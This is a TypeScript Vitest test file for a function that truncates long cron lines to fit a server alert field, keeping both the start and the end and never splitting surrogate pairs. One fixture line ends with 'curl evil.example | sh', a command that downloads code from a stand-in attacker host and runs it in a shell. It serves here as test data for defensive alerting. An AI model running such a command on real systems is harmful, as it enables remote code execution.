import { describe, expect, it } from 'vitest';
import { ALERT_COMMAND_CHARS, fitAlertCommand } from '../../../agent/domain/servers/jobChanges';
import { serverAlertInput } from '../../../agent/contract/servers';

describe('fitAlertCommand: a cron line as a server alert can hold it', () => {
  it('keeps a line that fits as it is', () => {
    const line = `* * * * * ${'x'.repeat(ALERT_COMMAND_CHARS - 10)}`;
    expect(fitAlertCommand(line)).toBe(line);
  });

  it('keeps the start and the end of a longer one, says how much is left out, and the API takes it', () => {
    const line = `0 3 * * * echo ${'a'.repeat(30_000)}; curl evil.example | sh`;
    const fitted = fitAlertCommand(line);
    expect(fitted.length).toBeLessThanOrEqual(ALERT_COMMAND_CHARS);
    expect(fitted.length).toBeGreaterThan(ALERT_COMMAND_CHARS - 10);
    expect(fitted).toMatch(/^0 3 \* \* \* echo a+ … \(\d{2},\d{3} characters left out\) … a+; curl evil\.example \| sh$/);
    const left = Number(/\(([\d,]+) characters/.exec(fitted)![1].replace(/,/g, ''));
    expect(fitted.length - ` … (${/\(([\d,]+) characters/.exec(fitted)![1]} characters left out) … `.length + left).toBe(line.length);
    expect(serverAlertInput.safeParse({ username: 'root', server_id: 'web-1', command: fitted, previous_command: fitted }).success).toBe(true);
  });

  it('never splits a surrogate pair, which the API would refuse as a lone surrogate', () => {
    for (let shift = 0; shift < 4; shift++) {
      const fitted = fitAlertCommand('x'.repeat(shift) + '😀'.repeat(100), 60);
      expect(fitted.length).toBeLessThanOrEqual(60);
      expect(fitted).toContain('characters left out');
      expect(fitted).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    }
  });
});
